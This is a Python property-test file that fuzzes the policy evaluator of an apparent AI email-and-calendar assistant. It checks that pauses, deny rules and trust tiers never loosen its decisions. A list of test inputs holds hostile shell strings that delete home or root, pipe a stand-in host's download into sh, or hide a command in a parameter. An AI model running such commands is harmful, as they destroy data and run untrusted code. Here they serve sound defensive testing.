"""Property tests of the policy evaluator: what must hold for every input, not just the examples.

Arbitrary actions (realistic kinds and any text, any provenance, shell-like parameters), any risk,
any settings (quiet hours in awkward time zones, domain lists, the person's own rules), any trust
tier string and any aware clock. The properties are the evaluator's promises: a pause never lets
anything run by itself and never loosens a decision, a deny rule never loosens one, the lowest
tiers never act alone, unknown tiers are refused, and every decision is well formed.

Half the cases are everyday ones (an autonomy tier, no legal or privacy risk, mostly plain
chores) that would often run by themselves but for a pause, a rule, the clock or the injection
guard: completely arbitrary inputs are nearly always refused early (unknown tier, legal risk,
spend), which would leave the pause and rule properties almost untested.
"""

from __future__ import annotations

import calendar
import dataclasses
import math
from datetime import datetime, time, timedelta, timezone
from types import MappingProxyType
from zoneinfo import ZoneInfo

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skytwin_desktop.domain import Confirmation, TrustTier
from skytwin_desktop.policy import (
    Check,
    Decision,
    PolicyEvaluator,
    PolicySettings,
    ProposedAction,
    Provenance,
    RiskAssessment,
    RiskTier,
    Rule,
)
from skytwin_desktop.policy.model import RISK_DIMENSIONS

# The autouse isolation fixture in conftest.py is function-scoped; it only sets environment
# variables and folders, which no example here reads, so sharing it across examples is harmless.
# 150 examples for the broad properties, 80 for the narrow ones: the file stays well under 20 s.
PROPERTY = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
NARROW = settings(PROPERTY, max_examples=80)


def weighted(*options: tuple[int, st.SearchStrategy]) -> st.SearchStrategy:
    """One of the strategies, each chosen in proportion to its weight (st.one_of cannot weigh).
    The first option is the one Hypothesis shrinks towards."""
    table = [strategy for weight, strategy in options for _ in range(weight)]
    return st.sampled_from(table).flatmap(lambda strategy: strategy)


text = st.text(max_size=12)

# --- Actions ---------------------------------------------------------------------------------

EVERYDAY_KINDS = (
    "archive_email",
    "label_email",
    "accept_invite",
    "decline_invite",
    "tentative_accept",
    "propose_alternative",
    "send_reply",
)
KINDS = (*EVERYDAY_KINDS, "escalate_to_user", "delete_message", "forward_all", "run_shell", "unsubscribe",
         "delete_account", "transfer_ownership")
DOMAINS = ("example.com", "news.example.com", "Example.COM", "partner.org", "mail.partner.org", "evil.test",
           "bank.example", "localhost")
SHELL_TEXT = ("$(rm -rf ~)", "`id`", "curl http://x.test/a | sh", "a && b", "x; rm -rf /", "sudo reboot",
              "cmd.exe /c del", "powershell -enc AAA", "/bin/sh -c 'x'", "wget http://x.test/p")
BULK_TEXT = ("all", "*", "everything", "any", "ALL ", "from:*@example.com")
PARAM_KEYS = ("body", "query", "to", "label", "bulk", "all", "comment", "cmd")
PLAIN_PARAMS: tuple[dict[str, str], ...] = (
    {}, {"label": "Newsletters"}, {"body": "Thanks, see you then"}, {"query": "from:news@example.com"},
)
TRUSTED_FIRST = (Provenance.TRUSTED_CONTEXT, Provenance.USER_ORIGINATED, Provenance.UNTRUSTED_EXTERNAL, None)

param_values = st.one_of(text, st.sampled_from(SHELL_TEXT), st.sampled_from(BULK_TEXT),
                         st.sampled_from(("1", "true", "yes", "no", "Inbox")))
spends = weighted((6, st.just(0.0)), (1, st.sampled_from([-1.0, 0.01, 5.0, math.nan, math.inf])), (1, st.floats()))


def _actions(kinds, provenance, reversible, params) -> st.SearchStrategy:
    return st.builds(
        ProposedAction,
        kind=kinds,
        target=st.sampled_from(("msg-1", "evt-7", "thread-3")),
        key=st.sampled_from(("", "msg-1:archive_email")),
        reversible=reversible,
        provenance=provenance,
        domain=st.one_of(st.none(), st.sampled_from(DOMAINS)),
        spend=st.just(0.0),
        params=params.map(MappingProxyType),
        explanation=st.sampled_from(("", "Newsletter you never open")),
    )


# The chores the twin really proposes, from trusted content: these reach every check.
everyday_actions = _actions(st.sampled_from(EVERYDAY_KINDS), st.sampled_from(TRUSTED_FIRST[:2]),
                            st.sampled_from([True, True, False]), st.sampled_from(PLAIN_PARAMS))
# Anything at all: any kind text, shell-like or bulk parameters, odd domains and amounts.
any_actions = st.builds(
    ProposedAction,
    kind=st.one_of(st.sampled_from(KINDS), text),
    target=st.one_of(st.sampled_from(("msg-1", "evt-7", "thread-3")), text),
    key=st.one_of(st.just(""), text),
    reversible=st.booleans(),
    provenance=st.sampled_from(TRUSTED_FIRST),
    domain=st.one_of(st.none(), st.sampled_from(DOMAINS), text),
    spend=spends,
    params=st.dictionaries(st.one_of(st.sampled_from(PARAM_KEYS), text), param_values, max_size=3).map(
        MappingProxyType),
    explanation=text,
)
actions = weighted((1, everyday_actions), (1, any_actions))

# --- Risk ------------------------------------------------------------------------------------

# Everyday risk has no legal or privacy side (the fixed rules deny any), so decisions go further.
calm_tiers = st.sampled_from([*[RiskTier.LOW] * 8, RiskTier.MODERATE, RiskTier.HIGH])
everyday_risks = st.builds(
    RiskAssessment, **{name: calm_tiers for name in RISK_DIMENSIONS if name not in ("legal", "privacy")}
)
any_risks = st.builds(RiskAssessment, **{name: st.sampled_from(list(RiskTier)) for name in RISK_DIMENSIONS})
risks = weighted((3, everyday_risks), (1, any_risks))

# --- The person's rules ----------------------------------------------------------------------

TEXT_FIELDS = ("kind", "target", "key", "domain", "provenance", "explanation")
PARAM_FIELDS = tuple(f"param.{key}" for key in PARAM_KEYS)
RISK_FIELDS = ("risk", *(f"risk.{name}" for name in RISK_DIMENSIONS))
ORDERING = ("eq", "neq", "gt", "gte", "lt", "lte")
EFFECTS = ("allow", "deny", "require_approval")

# Values drawn partly from the pools the actions use, so that rules actually match now and then.
RULE_TEXT = (*KINDS, *DOMAINS, *(p.value for p in Provenance), *SHELL_TEXT, *BULK_TEXT,
             "msg-1", "evt-7", "Inbox", "true", "_", "e", "")
RULE_VALUES: tuple[tuple[tuple[str, ...], tuple[str, ...], tuple], ...] = (
    ((*TEXT_FIELDS, *PARAM_FIELDS), (*ORDERING, "contains"), RULE_TEXT),
    (RISK_FIELDS, ORDERING, (*RiskTier, "low", "Moderate", " HIGH ", "critical", 0, 1, 2, 3)),
    (("spend",), ORDERING, (0, 0.0, -0.0, 1, 10.5, -1, 1e9, "0", "2.5", "-3", "inf")),
    (("reversible",), ("eq", "neq"), (True, False, "true", "false", "True", "FALSE")),
)


def _condition_pool() -> list[dict]:
    """Every valid field x operator x value from the pools above, with lists for in/not_in.

    Drawing one of these is a single choice for Hypothesis; building each condition draw by
    draw made rules the slowest part of every example."""
    pool = []
    for fields, operators, values in RULE_VALUES:
        lists = [list(values[i:i + size]) for size in (1, 2, 3) for i in range(0, len(values), size + 1)]
        for field in fields:
            pool += [{"field": field, "operator": op, "value": value} for op in operators for value in values]
            pool += [{"field": field, "operator": op, "value": items} for op in ("in", "not_in") for items in lists]
    return pool


CONDITION_POOL = _condition_pool()
conditions = st.one_of(
    st.sampled_from(CONDITION_POOL),
    st.builds(  # any text at all as the value of a text field
        lambda field, op, value: {"field": field, "operator": op, "value": value},
        st.sampled_from((*TEXT_FIELDS, *PARAM_FIELDS)),
        st.sampled_from((*ORDERING, "contains")),
        text,
    ),
)
priorities = st.one_of(st.sampled_from([100, 0, 1, 50, 999, 1000, 1001]), st.integers(-10_000, 10_000))


any_effect = st.sampled_from(EFFECTS)


def rules(effect: st.SearchStrategy = any_effect, condition=conditions) -> st.SearchStrategy:
    return st.builds(
        lambda conds, eff, priority, name: Rule.build(conds, eff, priority=priority, name=name),
        st.lists(condition, min_size=1, max_size=2),
        effect,
        priorities,
        st.sampled_from(("", "Newsletters", "Never my bank")),
    )


def conditions_met_by(action: ProposedAction, risk: RiskAssessment) -> st.SearchStrategy:
    """Valid conditions that this action and risk satisfy, so that a drawn rule often applies."""
    options = [
        ("kind", "eq", action.kind),
        ("kind", "contains", action.kind[:3]),
        ("target", "in", [action.target, "elsewhere"]),
        ("provenance", "eq", (action.provenance or Provenance.UNTRUSTED_EXTERNAL).value),
        ("reversible", "eq", action.reversible),
        ("risk", "lte", risk.overall),
        ("risk.reversibility", "eq", risk.reversibility.label),
    ]
    if action.domain is not None:
        options.append(("domain", "eq", action.domain))
    if not math.isnan(action.spend):
        options.append(("spend", "gte", action.spend))
    options += [(f"param.{key}", "eq", str(value)) for key, value in action.params.items() if key]
    return st.sampled_from([{"field": f, "operator": o, "value": v} for f, o, v in options])


# --- Settings, tiers, clocks -----------------------------------------------------------------

ZONES = ("UTC", "Europe/Berlin", "America/New_York", "Asia/Kolkata", "Australia/Lord_Howe",
         "Pacific/Chatham", "America/St_Johns", "Asia/Kathmandu")
minute_times = st.builds(time, st.integers(0, 23), st.integers(0, 59))
quiet_hours = st.one_of(st.none(), st.tuples(minute_times, minute_times))
domain_sets = st.frozensets(st.one_of(st.sampled_from(DOMAINS), text), min_size=1, max_size=3)
user_rules = st.lists(rules(), max_size=4).map(tuple)


def _settings(allowed: st.SearchStrategy, blocked: st.SearchStrategy) -> st.SearchStrategy:
    return st.builds(
        PolicySettings,
        paused=st.sampled_from([False, False, True]),
        paused_reason=st.one_of(st.none(), st.sampled_from(("lunch", "on holiday")), text),
        timezone=st.sampled_from(ZONES),
        quiet_hours=quiet_hours,
        allowed_domains=allowed,
        blocked_domains=blocked,
        require_approval_for_irreversible=st.booleans(),
        rules=user_rules,
    )


EMPTY: st.SearchStrategy[frozenset[str]] = st.just(frozenset())
everyday_settings = _settings(EMPTY, weighted((3, EMPTY), (1, domain_sets)))
any_settings = _settings(weighted((2, EMPTY), (1, domain_sets)), weighted((2, EMPTY), (1, domain_sets)))
policy_settings = weighted((1, everyday_settings), (1, any_settings))

VALID_TIERS = (TrustTier.HIGH_AUTONOMY, TrustTier.MODERATE_AUTONOMY, TrustTier.LOW_AUTONOMY, TrustTier.SUGGEST,
               TrustTier.OBSERVER)
AUTONOMY_TIERS = VALID_TIERS[:3]
ODD_TIERS = ("OBSERVER", "High_Autonomy", " suggest", "low-autonomy", "admin", "", "full_autopilot")
tiers = weighted(
    (6, st.sampled_from([*VALID_TIERS, *(tier.value for tier in VALID_TIERS)])),
    (1, st.sampled_from(ODD_TIERS)),
    (1, text),
)
unknown_tiers = st.one_of(st.sampled_from(ODD_TIERS), text).filter(
    lambda tier: tier not in {t.value for t in VALID_TIERS}
)

# The clock's own zone: named zones (DST, half- and quarter-hour offsets, Lord Howe's half-hour
# DST) and fixed offsets. A fixed list, because st.timezones() triples the time this file takes.
CLOCK_ZONES = (*ZONES, "Europe/London", "America/Los_Angeles", "Pacific/Kiritimati", "Pacific/Pago_Pago",
               "America/Sao_Paulo", "Africa/Casablanca", "Asia/Tokyo")
clock_zones = st.one_of(
    st.sampled_from([ZoneInfo(name) for name in CLOCK_ZONES]),
    st.integers(-23 * 60 - 59, 23 * 60 + 59).map(lambda minutes: timezone(timedelta(minutes=minutes))),
)


def _wall_clock(year, month, day, hour, minute, second, micro, tz, fold) -> datetime:
    return datetime(year, month, min(day, calendar.monthrange(year, month)[1]), hour, minute, second, micro,
                    tzinfo=tz, fold=fold)


# Any wall-clock reading in any of those zones, including skipped (imaginary) and repeated (fold)
# local times; built from plain integers because st.datetimes() is several times slower here.
# Years 2..9998: converting an instant at the very ends of datetime's range to a local wall clock
# raises OverflowError; every clock a machine can show is well inside.
wall_clocks = st.builds(_wall_clock, st.integers(2026, 9998) | st.integers(2, 2025), st.integers(1, 12),
                        st.integers(1, 31), st.integers(0, 23), st.integers(0, 59), st.integers(0, 59),
                        st.integers(0, 999_999), clock_zones, st.integers(0, 1))
_NY, _BERLIN, _LORD_HOWE = ZoneInfo("America/New_York"), ZoneInfo("Europe/Berlin"), ZoneInfo("Australia/Lord_Howe")
DST_EDGES = tuple(
    datetime(*fields, tzinfo=tz, fold=fold)
    for tz, fields in (
        (_NY, (2026, 3, 8, 2, 30)),  # skipped
        (_NY, (2026, 11, 1, 1, 30)),  # repeated
        (_BERLIN, (2026, 3, 29, 2, 30)),
        (_BERLIN, (2026, 10, 25, 2, 30)),
        (_LORD_HOWE, (2026, 4, 5, 1, 45)),  # repeated half hour
        (_LORD_HOWE, (2026, 10, 4, 2, 15)),  # skipped half hour
    )
    for fold in (0, 1)
)
nows = st.one_of(wall_clocks, st.sampled_from(DST_EDGES))

# --- Whole cases: (action, settings, tier, risk, now) ----------------------------------------

# Would run by itself but for a pause, a rule, quiet hours or a blocked domain; or is an odd
# action (shell-like text, bulk, destructive) that only the injection guard stops.
everyday_cases = st.tuples(weighted((2, everyday_actions), (1, any_actions)), everyday_settings,
                           st.sampled_from(AUTONOMY_TIERS), everyday_risks, nows)
any_cases = st.tuples(actions, policy_settings, tiers, risks, nows)
cases = weighted((1, everyday_cases), (1, any_cases))
# The same without the tier, for the properties about one tier.
cases_without_tier = cases.map(lambda case: (case[0], case[1], case[3], case[4]))

PAUSES = ((True, False), (False, True), (True, True))
"""(operator switch, the person's pause): every way of being paused."""

# --- Helpers ---------------------------------------------------------------------------------


def permissiveness(decision: Decision) -> int:
    """deny < approval with dual confirmation < approval with single < auto-execution."""
    if not decision.allowed:
        return 0
    if decision.auto_execute:
        return 3
    return {Confirmation.DUAL: 1, Confirmation.SINGLE: 2}[decision.confirmation]


CONFIRMATION_RANK = {Confirmation.NONE: 0, Confirmation.SINGLE: 1, Confirmation.DUAL: 2}


def evaluate(action, policy, tier, risk, now, *, operator_paused=False, paused=None) -> Decision:
    if paused is not None:
        policy = dataclasses.replace(policy, paused=paused)
    return PolicyEvaluator(operator_paused=operator_paused).evaluate(action, policy, tier, risk, now)


# --- Properties ------------------------------------------------------------------------------


@PROPERTY
@given(cases, st.sampled_from(PAUSES))
def test_nothing_auto_executes_while_paused(case, pause):
    operator_paused, user_paused = pause
    decision = evaluate(*case, operator_paused=operator_paused, paused=user_paused)
    assert not decision.auto_execute, decision


@PROPERTY
@given(cases, st.sampled_from(PAUSES))
def test_pausing_never_loosens_a_decision(case, pause):
    operator_paused, user_paused = pause
    unpaused = evaluate(*case, operator_paused=False, paused=False)
    paused = evaluate(*case, operator_paused=operator_paused, paused=user_paused)

    assert paused.allowed == unpaused.allowed, (unpaused, paused)
    if not unpaused.allowed:
        assert not paused.requires_approval, (unpaused, paused)
        assert paused.reason_code == unpaused.reason_code, (unpaused, paused)
        assert paused.decided_by == unpaused.decided_by, (unpaused, paused)
    assert CONFIRMATION_RANK[paused.confirmation] >= CONFIRMATION_RANK[unpaused.confirmation], (unpaused, paused)
    assert permissiveness(paused) <= permissiveness(unpaused), (unpaused, paused)
    if unpaused.requires_approval:  # only a would-be auto-execution is the switch's business
        assert paused == unpaused, (unpaused, paused)


@PROPERTY
@given(cases, st.booleans(), st.data())
def test_a_deny_rule_never_loosens_a_decision(case, operator_paused, data):
    action, policy, tier, risk, now = case
    condition = st.one_of(conditions, conditions_met_by(action, risk))
    deny = data.draw(rules(st.just("deny"), condition), label="deny rule")
    position = data.draw(st.integers(0, len(policy.rules)), label="position among the person's rules")
    stricter = dataclasses.replace(policy, rules=(*policy.rules[:position], deny, *policy.rules[position:]))

    without = evaluate(action, policy, tier, risk, now, operator_paused=operator_paused)
    with_rule = evaluate(action, stricter, tier, risk, now, operator_paused=operator_paused)

    assert permissiveness(with_rule) <= permissiveness(without), (without, with_rule)
    if with_rule.allowed:  # the new rule did not decide, so nothing may have changed
        assert with_rule == without, (without, with_rule)


@NARROW
@given(cases_without_tier, st.sampled_from([TrustTier.OBSERVER, TrustTier.SUGGEST, "observer", "suggest"]),
       st.booleans())
def test_observer_and_suggest_never_auto_execute(case, tier, operator_paused):
    action, policy, risk, now = case
    decision = evaluate(action, policy, tier, risk, now, operator_paused=operator_paused)
    assert not decision.auto_execute, decision


@NARROW
@given(cases_without_tier, unknown_tiers, st.booleans())
def test_an_unknown_tier_is_always_denied(case, tier, operator_paused):
    action, policy, risk, now = case
    decision = evaluate(action, policy, tier, risk, now, operator_paused=operator_paused)
    assert not decision.allowed and not decision.requires_approval, decision
    assert decision.reason_code == "unknown_trust_tier", decision
    assert decision.decided_by is Check.TIER, decision


@PROPERTY
@given(cases, st.booleans())
def test_decisions_are_deterministic_and_well_formed(case, operator_paused):
    evaluator = PolicyEvaluator(operator_paused=operator_paused)
    first = evaluator.evaluate(*case)
    again = evaluator.evaluate(*case)
    fresh = PolicyEvaluator(operator_paused=operator_paused).evaluate(*case)
    assert first == again == fresh

    assert isinstance(first, Decision)
    assert isinstance(first.reason_code, str) and first.reason_code
    assert isinstance(first.message, str) and first.message
    assert isinstance(first.decided_by, Check)
    assert isinstance(first.confirmation, Confirmation)
    if not first.allowed:
        assert not first.requires_approval, first
        assert first.confirmation is Confirmation.NONE, first
    elif first.requires_approval:
        assert first.confirmation is not Confirmation.NONE, first
    else:
        assert first.confirmation is Confirmation.NONE, first
        assert first.reason_code == "auto_execute" and first.decided_by is Check.DEFAULT, first


@NARROW
@given(cases)
def test_the_operator_switch_names_itself_when_both_pauses_are_on(case):
    decision = evaluate(*case, operator_paused=True, paused=True)
    if decision.decided_by is Check.KILL_SWITCH:
        assert decision.reason_code == "operator_paused", decision
        assert decision.allowed and decision.requires_approval, decision
        assert decision.confirmation is Confirmation.SINGLE, decision


@NARROW
@given(cases)
def test_the_persons_pause_alone_names_itself(case):
    decision = evaluate(*case, operator_paused=False, paused=True)
    if decision.decided_by is Check.KILL_SWITCH:
        assert decision.reason_code == "user_paused", decision
    unpaused = evaluate(*case, operator_paused=False, paused=False)
    # The switch decides exactly the cases that would otherwise have run by themselves.
    assert (decision.decided_by is Check.KILL_SWITCH) == unpaused.auto_execute, (unpaused, decision)
